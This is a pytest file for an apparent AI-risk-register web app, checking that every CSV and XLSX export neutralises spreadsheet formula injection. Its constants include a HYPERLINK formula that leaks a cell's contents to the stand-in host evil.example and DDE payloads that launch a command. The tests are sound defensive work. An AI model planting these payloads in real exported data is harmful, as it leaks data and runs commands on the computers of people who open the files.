"""CSV/XLSX formula injection: every spreadsheet export writes text that starts like a formula
with a leading apostrophe (one helper, apps.core.spreadsheets), and leaves numbers alone."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from apps.core.spreadsheets import FORMULA_PREFIXES, neutralise_formula, spreadsheet_row
from apps.exports.jobs import run_export
from tests.export_files import csv_rows
from tests.factories import (
    AISystemFactory,
    ExportJobFactory,
    IncidentFactory,
    MembershipFactory,
    MitigationFactory,
    ReviewFactory,
    RiskFactory,
    TeamFactory,
    UserFactory,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"


# --- The helper -----------------------------------------------------------------------------------
@pytest.mark.parametrize("text", [HYPERLINK, DDE, SUM, MINUS, TAB, RETURN, "-", "=", "@"])
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Prompt injection", "1-2", "a=b", " =not at the start", "", "'=already quoted", "café"],
)
def test_other_text_is_left_alone(value):
    assert neutralise_formula(value) == value


@pytest.mark.parametrize(
    "value", [-3, -0.5, Decimal("-1.25"), 0, 7, None, True, datetime.date(2026, 1, 2)]
)
def test_numbers_dates_and_booleans_are_never_touched(value):
    assert neutralise_formula(value) is value


def test_a_row_is_neutralised_cell_by_cell():
    assert spreadsheet_row(["=1", -1, "-1", None]) == ["'=1", -1, "'-1", None]


# --- Every exporter -------------------------------------------------------------------------------
@pytest.fixture
def hostile(db, auditor):
    """A register whose every free-text field starts like a formula."""
    team = TeamFactory(name=SUM, slug="hostile-team")
    owner = UserFactory(email="-owner@example.org")
    MembershipFactory(team=team, user=owner)
    system = AISystemFactory(
        team=team,
        name=HYPERLINK,
        purpose=DDE,
        business_process=MINUS,
        vendor=TAB,
        model_version="-1.2",
        business_owner=owner,
    )
    risk = RiskFactory(system=system, title=DDE, scenario=RETURN, owner=owner)
    mitigation = MitigationFactory(system=system, title=MINUS, description=HYPERLINK, owner=owner)
    mitigation.risks.add(risk)
    IncidentFactory(
        system=system,
        title=SUM,
        description=TAB,
        root_cause=HYPERLINK,
        lessons_learned=DDE,
        materialised_risks=[risk],
    )
    ReviewFactory(system=system, submitted_by=owner)
    return {"system": system, "risk": risk, "owner": owner}


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200
    return csv_rows(b"".join(response.streaming_content))


def xlsx_cells(content: bytes) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    sheet = workbook.worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def formula_like(rows: list[list]) -> list:
    """Every cell below the header that a spreadsheet would run."""
    return [
        cell
        for row in rows[1:]
        for cell in row
        if isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)
    ]


def exported_text(rows: list[list]) -> set:
    return {cell for row in rows[1:] for cell in row if isinstance(cell, str)}


PAGE_EXPORTS = [
    ("risks:export", {"'" + DDE, "'" + RETURN, "'" + HYPERLINK, "'" + SUM, "'-owner@example.org"}),
    ("incidents:export", {"'" + SUM, "'" + HYPERLINK}),
    ("reviews:export", {"'" + HYPERLINK, "'" + SUM, "'-owner@example.org"}),
]


@pytest.mark.parametrize(("url_name", "expected"), PAGE_EXPORTS, ids=[p[0] for p in PAGE_EXPORTS])
def test_page_csv_exports_neutralise_every_formula(url_name, expected, hostile, client_for):
    rows = csv_cells(client_for("auditor").get(reverse(url_name)))
    assert len(rows) == 2  # the header and the hostile record
    assert formula_like(rows) == []
    assert expected <= exported_text(rows)


API_EXPORTS = [
    ("risks", {"'" + DDE, "'" + RETURN, "'" + HYPERLINK, "'-owner@example.org"}),
    ("systems", {"'" + HYPERLINK, "'" + DDE, "'" + MINUS, "'" + TAB, "'-1.2"}),
    ("mitigations", {"'" + MINUS, "'" + HYPERLINK, "'-owner@example.org"}),
    ("incidents", {"'" + SUM, "'" + TAB, "'" + HYPERLINK, "'" + DDE}),
]


@pytest.mark.parametrize(("name", "expected"), API_EXPORTS, ids=[a[0] for a in API_EXPORTS])
def test_api_csv_exports_neutralise_every_formula(name, expected, hostile, client_for):
    rows = csv_cells(client_for("auditor").get(reverse(f"api:export-{name}-csv")))
    assert len(rows) == 2
    assert formula_like(rows) == []
    assert expected <= exported_text(rows)


@pytest.mark.parametrize(("name", "expected"), API_EXPORTS, ids=[a[0] for a in API_EXPORTS])
def test_api_xlsx_exports_neutralise_every_formula(name, expected, hostile, client_for):
    response = client_for("auditor").get(reverse(f"api:export-{name}-xlsx"))
    assert response.status_code == 200
    rows = xlsx_cells(b"".join(response.streaming_content))
    assert len(rows) == 2
    assert formula_like(rows) == []
    assert expected <= exported_text(rows)  # lxml writes CR as &#13;: the text round-trips


def test_api_xlsx_export_keeps_numbers_as_numbers(hostile, client_for):
    response = client_for("auditor").get(reverse("api:export-risks-xlsx"))
    header, row = xlsx_cells(b"".join(response.streaming_content))
    assert isinstance(row[header.index("inherent_likelihood")], int)


def test_the_register_xlsx_job_neutralises_every_formula(hostile, auditor, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    job = ExportJobFactory(user=auditor)
    run_export(job.pk)
    job.refresh_from_db()
    with job.file.open("rb") as file:
        rows = xlsx_cells(file.read())
    assert len(rows) == 2
    assert formula_like(rows) == []
    assert {"'" + DDE, "'" + HYPERLINK, "'" + SUM, "'-owner@example.org"} <= exported_text(rows)
    assert isinstance(rows[1][9], int)  # inherent likelihood: a number stays a number


def test_json_export_keeps_the_text_as_written(hostile, client_for):
    response = client_for("auditor").get(reverse("api:export-risks-json"))
    assert DDE.encode() in b"".join(response.streaming_content)
